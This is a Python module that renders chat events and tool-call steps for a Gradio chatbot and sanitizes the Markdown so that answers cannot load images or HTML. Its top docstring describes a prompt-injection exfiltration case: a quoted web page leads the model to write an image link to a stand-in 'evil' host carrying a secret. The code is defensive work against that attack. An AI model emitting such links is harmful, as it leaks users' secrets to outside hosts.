"""Turns ``/chat`` events and thread histories into Gradio chat messages (pure functions, no I/O).

Messages are plain JSON-able dicts in Gradio's ``messages`` format, so the same list feeds the
``Chatbot`` and is cached in the browser. Each tool call (and each A2A delegation, a tool named
``a2a_*``) is a collapsible step: a message whose ``metadata.title`` names it, ``status`` ``pending``
until its result arrives, then ``done`` with ``ok``/``error`` in the title and a short result preview.

Everything shown passes through :func:`safe_markdown` (:func:`safe_messages`): answers and tool results
can quote web pages, and a page that makes the model write ``![x](https://evil/?q=<secret>)`` or an
``<img>`` tag would otherwise have the browser send the secret the moment the answer renders. Gradio's
own sanitizer keeps ``<img>``, so nothing in an answer may load anything.
"""

import functools
import inspect
import json
import re
import time
from collections.abc import Callable
from typing import Any

from protocols.events import ChatEvent, Done, Error, Metadata, Token, ToolCall, ToolResult, Usage
from ui.client import ThreadMessage

ChatMessage = dict[str, Any]

A2A_PREFIX = "a2a_"
PREVIEW_CHARS = 280
ARGS_CHARS = 2000
NO_RESULT = "no result"


# --- answers that cannot load anything ------------------------------------------------------------------
# The rule is context-free, so no parse of the Markdown can be wrong about safety: every "<" that could
# open an HTML tag, comment or declaration and every "![" (a Markdown image) is neutralized, wherever it
# is. Where this module recognizes prose it does so visibly ("&lt;", "[image: alt](url)" links); in code
# (fences, inline code spans), where Markdown shows text literally anyway, it inserts an invisible
# WORD JOINER, so code reads the same. Mermaid fences, which Gradio draws as diagrams (those can load
# images), become ordinary code blocks.

WORD_JOINER = "\u2060"
_TAG_START = re.compile(r"<(?=[A-Za-z/!?])")  # what the HTML tokenizer reads as markup (rest is text)
_HARMLESS_TAGS = re.compile(
    r"</?(?:b|i|em|strong|sub|sup|s|u|kbd)>|<br\s*/?>|<(?:https?|mailto):[^\s<>\"'`]*>", re.IGNORECASE
)
_IMAGE = re.compile(r"!\[([^\]\n]*)\]")
_FENCE_OPEN = re.compile(r" {0,3}(`{3,}(?=[^`]*$)|~{3,})")  # as marked (GFM) opens a fenced block
_CODE_SPAN = re.compile(r"(?<!`)(`+)(?!`)(.+?)(?<!`)\1(?!`)", re.DOTALL)
_MERMAID = "```mermaid"  # Gradio's diagram extension matches exactly this


def _code_inert(text: str) -> str:
    return _TAG_START.sub("<" + WORD_JOINER, text).replace("![", "!" + WORD_JOINER + "[")


def _image_link(match: re.Match[str]) -> str:
    alt = match.group(1).strip()
    return f"[image: {alt}]" if alt else "[image]"


def _prose_inert(text: str) -> str:
    text = _IMAGE.sub(_image_link, text).replace("![", "!" + WORD_JOINER + "[")
    parts, position = [], 0
    for harmless in _HARMLESS_TAGS.finditer(text):
        parts += [_TAG_START.sub("&lt;", text[position : harmless.start()]), harmless.group()]
        position = harmless.end()
    parts.append(_TAG_START.sub("&lt;", text[position:]))
    return "".join(parts)


def _inline_inert(prose: str) -> str:
    parts, position = [], 0
    for span in _CODE_SPAN.finditer(prose):
        parts += [_prose_inert(prose[position : span.start()]), _code_inert(span.group())]
        position = span.end()
    parts.append(_prose_inert(prose[position:]))
    return "".join(parts)


def _as_gradio_shows(text: str) -> str:
    """``text`` as the browser's Markdown parser gets it, so this module judges exactly that text.

    Gradio passes message text through ``inspect.cleandoc``; applied until nothing changes, it gives
    what any number of such passes would.
    """
    while (cleaned := inspect.cleandoc(text)) != text:
        text = cleaned
    return text


@functools.lru_cache(maxsize=1024)
def safe_markdown(text: str) -> str:
    """``text`` rendered the same but unable to load images, media, frames or styles (idempotent)."""
    lines = _as_gradio_shows(text).replace(_MERMAID, "``` mermaid").split("\n")
    out: list[str] = []
    prose: list[str] = []
    fence: re.Pattern[str] | None = None  # the closing line of the open fenced block
    for line in lines:
        if fence is not None:
            out.append(_code_inert(line))
            if fence.fullmatch(line):
                fence = None
            continue
        opening = _FENCE_OPEN.match(line)
        if opening is None:
            prose.append(line)
            continue
        if prose:
            out.append(_inline_inert("\n".join(prose)))
            prose = []
        out.append(_code_inert(line))
        fence = re.compile(r" {0,3}" + re.escape(opening.group(1)) + r"[~`]* *")
    if prose:
        out.append(_inline_inert("\n".join(prose)))
    return "\n".join(out)


def safe_messages(messages: list[ChatMessage]) -> list[ChatMessage]:
    """Copies of ``messages`` with every text passed through :func:`safe_markdown`.

    This is what the Chatbot shows and the browser stores.
    """
    return [
        {**message, "content": safe_markdown(message["content"])}
        if isinstance(message.get("content"), str)
        else message
        for message in messages
    ]


def step_label(tool_name: str) -> str:
    """A step's title: a delegation for ``a2a_*`` tools, else the tool's name."""
    if tool_name.startswith(A2A_PREFIX):
        return f"Delegated to {tool_name[len(A2A_PREFIX) :]} agent ({tool_name})"
    return f"Tool {tool_name}"


def _fenced(text: str, lang: str = "") -> str:
    # A fence longer than any backtick run inside keeps the block closed.
    longest = max((len(run) for run in re.findall(r"`+", text)), default=0)
    fence = "`" * max(3, longest + 1)
    return f"{fence}{lang}\n{text}\n{fence}"


def _shorten(text: str, limit: int) -> str:
    text = text.strip()
    return text if len(text) <= limit else text[: limit - 1].rstrip() + "…"


def args_markdown(args: dict[str, Any]) -> str:
    """A tool call's arguments as a (shortened) JSON block."""
    return "**Arguments**\n" + _fenced(
        _shorten(json.dumps(args, indent=2, ensure_ascii=False), ARGS_CHARS), "json"
    )


def step_message(call_id: str, name: str, args: dict[str, Any]) -> ChatMessage:
    """A pending, collapsible step for one tool call, showing its arguments."""
    return {
        "role": "assistant",
        "content": args_markdown(args),
        "metadata": {"id": call_id, "title": step_label(name), "status": "pending"},
    }


def complete_step(
    message: ChatMessage, name: str, status: str, content: str, duration_s: float | None
) -> None:
    """Mark a step message finished with its result status and a preview of the result."""
    metadata = message["metadata"]
    metadata["title"] = f"{step_label(name)} · {status}"
    metadata["status"] = "done"
    if duration_s is not None:
        metadata["duration"] = round(duration_s, 2)
    if status != NO_RESULT:
        preview = _shorten(content, PREVIEW_CHARS) or "(empty)"
        message["content"] += f"\n\n**Result ({status})**\n" + _fenced(preview, "text")


def error_message(error: Error) -> ChatMessage:
    """The chat message that shows an error event."""
    return {"role": "assistant", "content": f"⚠️ **Error** `{error.code}`: {error.message}"}


def usage_line(usage: Usage, trace_id: str | None = None) -> str:
    """The line appended to an answer: its token usage, and the trace id to look it up by."""
    line = f"Tokens: {usage.prompt_tokens} prompt + {usage.completion_tokens} completion"
    return f"*{line} · trace {trace_id}*" if trace_id else f"*{line}*"


def is_step(message: ChatMessage) -> bool:
    """Whether ``message`` is a tool step rather than text of the conversation."""
    return bool((message.get("metadata") or {}).get("title"))


class AnswerRenderer:
    """Folds the events of one answer into ``messages`` (appended in place) as they arrive."""

    def __init__(self, messages: list[ChatMessage], *, clock: Callable[[], float] = time.monotonic) -> None:
        self.messages = messages
        self.thread_id: str | None = None
        self.trace_id: str | None = None
        self.usage: Usage | None = None
        self.error: Error | None = None
        self.finished = False
        self._clock = clock
        self._steps: dict[str, tuple[ChatMessage, str, float]] = {}
        self._text_index: int | None = None  # the answer message tokens currently stream into
        self._answer_indices: list[int] = []
        self._streamed = ""

    def apply(self, event: ChatEvent) -> None:
        """Fold one event into the messages (and into ``thread_id``, ``usage``, ``error``)."""
        if isinstance(event, Metadata):
            self.thread_id = event.thread_id
            self.trace_id = event.trace_id
        elif isinstance(event, Token):
            self._token(event.text)
        elif isinstance(event, ToolCall):
            self._text_index = None
            message = step_message(event.id, event.name, event.args)
            self._steps[event.id] = (message, event.name, self._clock())
            self.messages.append(message)
        elif isinstance(event, ToolResult):
            self._tool_result(event)
        elif isinstance(event, Error):
            self.error = event
            self._text_index = None
            self.messages.append(error_message(event))
        elif isinstance(event, Done):
            self._done(event)

    def finish(self) -> None:
        """End the answer (also when the stream stopped without ``done``): no step stays pending."""
        for message, name, _ in self._steps.values():
            complete_step(message, name, NO_RESULT, "", None)
        self._steps.clear()
        self.finished = True

    def _token(self, text: str) -> None:
        if self._text_index is None:
            self.messages.append({"role": "assistant", "content": ""})
            self._text_index = len(self.messages) - 1
            self._answer_indices.append(self._text_index)
        self.messages[self._text_index]["content"] += text
        self._streamed += text

    def _tool_result(self, result: ToolResult) -> None:
        step = self._steps.pop(result.id, None)
        if step is None:  # a result without its call: show it as a finished step of its own
            message = step_message(result.id, result.name, {})
            self.messages.append(message)
            step = (message, result.name, self._clock())
        message, _, started = step
        complete_step(message, result.name, result.status, result.content, self._clock() - started)

    def _done(self, done: Done) -> None:
        self.thread_id = done.thread_id or self.thread_id
        self.usage = done.usage
        if not self._streamed.strip() and done.answer.strip():
            self._token(done.answer)
        if done.usage.prompt_tokens or done.usage.completion_tokens:  # nothing spent: no line
            line = usage_line(done.usage, self.trace_id)
            if self._answer_indices:
                self.messages[self._answer_indices[-1]]["content"] += f"\n\n{line}"
            else:
                self.messages.append({"role": "assistant", "content": line})
        self._text_index = None
        self.finish()


def render_history(history: list[ThreadMessage]) -> list[ChatMessage]:
    """Chat messages for a thread as the agent's thread API returns it."""
    messages: list[ChatMessage] = []
    steps: dict[str, tuple[ChatMessage, str]] = {}
    for item in history:
        if item.role == "user":
            messages.append({"role": "user", "content": item.content})
        elif item.role == "assistant":
            if item.content.strip():
                messages.append({"role": "assistant", "content": item.content})
            for call in item.tool_calls:
                message = step_message(call.id, call.name, call.args)
                steps[call.id] = (message, call.name)
                messages.append(message)
        elif item.role == "tool":
            step = steps.pop(item.tool_call_id or "", None)
            if step is None:  # a result without its call: a finished step of its own
                name = item.name or "tool"
                message = step_message(item.tool_call_id or "", name, {})
                messages.append(message)
            else:
                message, name = step
            status = "error" if (item.status or "").lower() == "error" else "ok"
            complete_step(message, name, status, item.content, None)
    for message, name in steps.values():
        complete_step(message, name, NO_RESULT, "", None)
    return messages


def user_turns(messages: list[ChatMessage]) -> list[str]:
    """The user's requests, in order: what two transcripts of the same thread must agree on."""
    return [str(m["content"]).strip() for m in messages if m.get("role") == "user"]
